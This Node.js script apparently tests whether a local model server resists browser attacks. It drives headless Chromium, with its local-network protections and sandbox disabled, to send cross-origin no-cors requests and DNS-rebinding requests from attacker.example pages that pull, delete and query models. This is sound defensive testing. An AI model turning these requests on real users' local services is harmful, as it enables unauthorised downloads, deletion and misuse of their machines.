// The web pages of docs/security.md, in a real headless Chromium (Debian's `chromium`,
// driven by playwright-core), against the mlx-serve on PORT:
//
// - a cross-origin page (http://attacker.example:PORT+1) sends "simple" requests, which a
//   browser sends without a preflight: POST /api/pull and /v1/embeddings as text/plain,
//   in no-cors mode;
// - a rebinding page: http://rebind.attacker.example:PORT, its name resolving to
//   127.0.0.1 (Chromium's --host-resolver-rules), so its requests to the server are
//   same-origin for the browser and go out with `Host: rebind.attacker.example:PORT`.
//   The attacker's first answer (the page itself) is served by Playwright's router, as
//   the attacker's own server would before the DNS switch.
//
// Prints one JSON line: what each fetch saw. Usage: node attack.mjs PORT MODEL REPO
// (REPO: what the page asks /api/pull for). CHROMIUM names the browser (default
// /usr/bin/chromium).

import { chromium } from "playwright-core";

const [port, model, repo] = process.argv.slice(2);
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: [
    "--host-resolver-rules=MAP rebind.attacker.example 127.0.0.1, MAP attacker.example 127.0.0.1",
    // Chromium's own guard for pages calling loopback (Local Network Access) is not in
    // every browser (Firefox, Safari, older Chromium): the server must hold without it.
    "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests",
    "--no-sandbox",
  ],
});

// The script each page runs: every fetch, and what it saw (status, or the error).
async function attack(page, requests) {
  return page.evaluate(async (requests) => {
    const seen = [];
    for (const r of requests) {
      try {
        const resp = await fetch(r.url, r.init);
        seen.push({ what: r.what, status: resp.status, type: resp.type });
      } catch (e) {
        seen.push({ what: r.what, error: String(e) });
      }
    }
    return seen;
  }, requests);
}

async function pageAt(origin) {
  const page = await browser.newPage();
  await page.route(`${origin}/`, (route) =>
    route.fulfill({ status: 200, contentType: "text/html", body: "<!doctype html><title>a page</title>" }),
  );
  await page.goto(`${origin}/`);
  return page;
}

const results = {};
const target = `http://127.0.0.1:${port}`;
const text = (body) => ({ method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify(body) });

const cross = await pageAt(`http://attacker.example:${Number(port) + 1}`);
results.cross = await attack(cross, [
  { what: "pull", url: `${target}/api/pull`, init: text({ model: repo, stream: false }) },
  { what: "embeddings", url: `${target}/v1/embeddings`, init: text({ model, input: "free compute" }) },
  { what: "delete", url: `${target}/api/delete`, init: { method: "DELETE", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ model }) } },
]);

const rebind = await pageAt(`http://rebind.attacker.example:${port}`);
results.rebind = await attack(rebind, [
  { what: "delete", url: "/api/delete", init: { method: "DELETE", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ model }) } },
  { what: "pull", url: "/api/pull", init: { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ model: repo, stream: false }) } },
  { what: "tags", url: "/api/tags", init: {} },
]);

await browser.close();
console.log(JSON.stringify(results));
